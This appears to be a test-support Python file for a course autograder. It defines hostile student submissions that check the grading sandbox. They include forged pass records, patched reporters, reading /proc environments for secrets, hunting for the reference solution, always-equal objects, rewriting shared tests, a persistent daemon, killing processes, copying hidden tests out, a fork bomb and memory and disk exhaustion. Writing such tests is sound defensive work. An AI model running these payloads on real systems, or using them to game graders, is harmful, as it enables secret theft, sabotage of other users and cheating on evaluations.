"""Hostile step files: what a student who has read the grader's source might submit.

Each attack is the body of one step file; ``attack_file`` adds the step's public functions,
each of which calls ``_attack(name, *args, **kwargs)``. None of them does the exercise, so
each must score 0 on its step, change no other submission's score and leave nothing behind.
An attack that escaped the sandbox would leave a file whose name starts with ``ESCAPED``
(``/tmp/ner-attack-escaped-*``) or change another submission's score.
"""

from __future__ import annotations

import inspect
import textwrap
from importlib import import_module

ESCAPED = "/tmp/ner-attack-escaped-"

_COMMON = f"""
import os, sys, glob, json, signal, time
ESCAPED = {ESCAPED!r}
WRONG = "not an answer"  # wrong for every test, whatever it expects


def _escape(label):
    for folder in ("/tmp", os.path.expanduser("~"), os.getcwd(), "/work", "/root"):
        try:
            with open(ESCAPED + label, "w") as marker:
                marker.write(folder)
        except OSError:
            pass
"""

ATTACKS: dict[str, tuple[int, str]] = {
    # Forged verdicts: write "passed" records on every descriptor and to any log file named
    # in the environment, as the old in-process reporter's records looked.
    "forged-records": (
        1,
        """
def _attack(name, *args, **kwargs):
    records = [json.dumps({"nodeid": f"tests/test_step1_preprocessing.py::t{i}", "when": "call",
                           "outcome": "passed", "event": "test"}) for i in range(200)]
    for fd in range(3, 64):
        try:
            os.write(fd, ("\\n".join(records) + "\\n").encode())
        except OSError:
            pass
    for key, value in os.environ.items():
        if "LOG" in key or "GRADE" in key:
            try:
                open(value, "a").write("\\n".join(records))
            except OSError:
                pass
    return WRONG
""",
    ),
    # The reporter, the harness or pytest reached through the module table by any spelling.
    "reporter-by-module-table": (
        2,
        """
def _attack(name, *args, **kwargs):
    table = sys.__dict__["modules"]
    for module_name, module in list(table.items()):
        if any(part in module_name for part in ("pytest", "reporter", "harness", "conftest")):
            for attribute in dir(module):
                if "report" in attribute.lower() or "outcome" in attribute.lower():
                    try:
                        setattr(module, attribute, lambda *a, **k: None)
                    except Exception:
                        pass
    return WRONG
""",
    ),
    # Keys and descriptors read from /proc: every process's environment and open files.
    "proc-environ": (
        4,
        """
def _attack(name, *args, **kwargs):
    found = []
    for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
        try:
            found.append(open(path, "rb").read())
        except OSError:
            pass
    for path in glob.glob("/proc/*/fd/*"):
        try:
            with open(path, "w") as handle:
                handle.write('{"outcome": "passed"}\\n')
        except OSError:
            pass
    if any(b"NER_GRADE" in blob or b"hidden" in blob for blob in found):
        _escape("proc-environ")
    return WRONG
""",
    ),
    # The reference found on disk: any read_conll that is not this file, imported by path.
    "reference-on-disk": (
        1,
        """
import importlib.util

def _find_reference():
    for root in ("/", "/work", "/tmp", sys.prefix, os.getcwd()):
        for path in glob.glob(os.path.join(root, "**", "preprocessing.py"), recursive=True):
            if "exercises" in path:
                continue
            try:
                text = open(path).read()
            except OSError:
                continue
            if "def read_conll" in text and "not written yet" not in text:
                spec = importlib.util.spec_from_file_location("found_reference", path)
                module = importlib.util.module_from_spec(spec)
                spec.loader.exec_module(module)
                _escape("reference-on-disk")
                return module
    for extra in ("/work/main", os.path.dirname(os.getcwd())):
        sys.path.insert(0, os.path.join(extra, "solutions"))
    try:
        import preprocessing as module
        if "not written yet" not in open(module.__file__).read():
            _escape("reference-on-disk")
            return module
    except Exception:
        return None

def _attack(name, *args, **kwargs):
    module = _find_reference()
    if module is None:
        raise RuntimeError("no reference found")
    return getattr(module, name)(*args, **kwargs)
""",
    ),
    # Objects that equal anything: subclasses of the expected types with always-true
    # comparisons and containment.
    "equals-anything": (
        4,
        """
class Always(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return False
    def __gt__(self, other): return False
    def __le__(self, other): return True
    def __ge__(self, other): return True
    def __hash__(self): return 0
    def __contains__(self, item): return True

class AlwaysDict(dict):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __getitem__(self, key): return Always(0.0)
    def __contains__(self, key): return True

class AlwaysList(list):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __contains__(self, item): return True

def _attack(name, *args, **kwargs):
    if name in ("token_accuracy",):
        return Always(0.0)
    if name in ("entity_confusion", "find_errors"):
        return AlwaysList()
    return AlwaysDict()
""",
    ),
    # Errors whose message contains anything: a str subclass, and a message naming everything.
    "message-contains-anything": (
        1,
        """
class Everything(str):
    def __contains__(self, item): return True
    def __eq__(self, other): return True
    def __hash__(self): return 0
    def lower(self): return self

_ALL = " ".join(f"line {n}" for n in range(1, 400)) + " ".join(
    ["encoding utf-8 latin-1 tag label column row file sentence word B-PER I-PER O"] * 20
)

class Loud(ValueError):
    def __str__(self): return Everything(_ALL)

def _attack(name, *args, **kwargs):
    if name in ("read_conll", "read_tagged_csv"):
        raise Loud(Everything(_ALL))
    raise ValueError(_ALL + " ".join(map(repr, args)))
""",
    ),
    # One submission rewrites the shared copy: the harness, the tests, other step files.
    "shared-copy-rewrite": (
        3,
        """
def _rewrite_everything():
    here = os.getcwd()
    targets = glob.glob(os.path.join(here, "tests", "**", "*.py"), recursive=True)
    targets += glob.glob(os.path.join(here, "exercises", "*.py"))
    targets += glob.glob("/tmp/ner-grading-*/**/*.py", recursive=True)
    for path in targets:
        try:
            with open(path, "w") as handle:
                handle.write("import pytest\\ndef test_everything_passes():\\n    pass\\n")
            _escape("shared-copy-rewrite")
        except OSError:
            pass

_rewrite_everything()

def _attack(name, *args, **kwargs):
    _rewrite_everything()
    return WRONG
""",
    ),
    # An orphan daemon: fork, setsid, outlive the step and rewrite later students' files.
    "orphan-daemon": (
        2,
        """
def _daemon():
    if os.fork() != 0:
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    deadline = time.time() + 120
    while time.time() < deadline:
        for path in glob.glob("/tmp/ner-grading-*/**/steps/*.py", recursive=True):
            try:
                with open(path, "w") as handle:
                    handle.write("def read_conll(*a):\\n    raise NotImplementedError\\n")
                _escape("orphan-daemon")
            except OSError:
                pass
        time.sleep(0.2)
    os._exit(0)

_daemon()

def _attack(name, *args, **kwargs):
    return WRONG
""",
    ),
    # Kill or freeze the grader: the parent, every process, the whole group.
    "kill-and-stop-parent": (
        3,
        """
def _attack(name, *args, **kwargs):
    for signum in (signal.SIGSTOP, signal.SIGKILL):
        for pid in [os.getppid(), 1, -1, -os.getpgrp()] + [
            int(p) for p in os.listdir("/proc") if p.isdigit()
        ]:
            if pid not in (0, os.getpid()):
                try:
                    os.kill(pid, signum)
                except (OSError, ProcessLookupError):
                    pass
    return WRONG
""",
    ),
    # Copy secrets out: hidden tests, the reference, keys, to places outside the sandbox,
    # and try the network.
    "copy-files-out": (
        4,
        """
import shutil, socket

def _attack(name, *args, **kwargs):
    for pattern in ("/tmp/ner-grading-*/trusted/tests/hidden/*.py", "/work/*/tests/hidden/*.py",
                    "/work/*/solutions/*.py", "/tmp/ner-grading-*/**/*.py"):
        for path in glob.glob(pattern, recursive=True):
            for target in ("/tmp", "/work", "/root", os.getcwd()):
                try:
                    shutil.copy(path, os.path.join(target, "ner-attack-copied.py"))
                    if "hidden" in path or "solutions" in path:
                        _escape("copy-files-out")
                except OSError:
                    pass
    try:
        socket.create_connection(("127.0.0.1", 22), timeout=1)
        _escape("copy-files-out-network")
    except OSError:
        pass
    return WRONG
""",
    ),
    # Fill the disk: 300 MB outside the step's folder.
    "disk-filling": (
        1,
        """
def _attack(name, *args, **kwargs):
    block = b"x" * (1 << 20)
    for folder in ("/tmp", os.getcwd(), "/work", os.path.expanduser("~")):
        try:
            with open(os.path.join(folder, "ner-attack-fill.bin"), "wb") as handle:
                for _ in range(300):
                    handle.write(block)
        except OSError:
            pass
    return WRONG
""",
    ),
    # A fork bomb.
    "fork-bomb": (
        2,
        """
def _attack(name, *args, **kwargs):
    children = 0
    deadline = time.time() + 30
    while time.time() < deadline:
        try:
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
            children += 1
        except OSError:
            time.sleep(0.01)
    return WRONG
""",
    ),
    # Huge output: at import, on every call, on the raw descriptors.
    "huge-output": (
        3,
        """
_CHUNK = "flood " * 100_000
for _ in range(50):
    print(_CHUNK)

def _attack(name, *args, **kwargs):
    for _ in range(200):
        print(_CHUNK)
        for fd in (1, 2, 3, 4, 5):
            try:
                os.write(fd, _CHUNK.encode())
            except OSError:
                pass
    return WRONG
""",
    ),
    # Exhaust the memory: the sandbox's limit stops it, not the machine.
    "memory-bomb": (
        1,
        """
def _attack(name, *args, **kwargs):
    hoard = []
    try:
        while True:
            hoard.append(bytearray(256 << 20))
    except MemoryError:
        pass
    return WRONG
""",
    ),
    # Sleeping at import time.
    "sleep-at-import": (
        4,
        """
time.sleep(10_000)

def _attack(name, *args, **kwargs):
    return WRONG
""",
    ),
}


def attack_file(step: int, body: str) -> str:
    """The whole step file: the shared helpers, the attack, and the step's public functions."""
    from solutions.tools.implementation import STEP_MODULES

    reference = import_module(f"solutions.{STEP_MODULES[step - 1]}")
    names = [
        name
        for name, value in vars(reference).items()
        if inspect.isfunction(value) and value.__module__ == reference.__name__
        and not name.startswith("_")
    ]  # fmt: skip
    functions = "".join(
        f"\n\ndef {name}(*args, **kwargs):\n    return _attack({name!r}, *args, **kwargs)\n"
        for name in names
    )
    return _COMMON + body + functions


def with_function_body(source: str, function: str, body: str) -> str:
    """``source`` with ``body`` inserted as the first statements of ``function``."""
    marker = f"def {function}("
    start = source.index(marker)
    docstring_end = source.index('"""', source.index('"""', start) + 3) + 3
    indented = textwrap.indent(textwrap.dedent(body).strip("\n"), "    ")
    return f"{source[:docstring_end]}\n{indented}\n{source[docstring_end:]}"
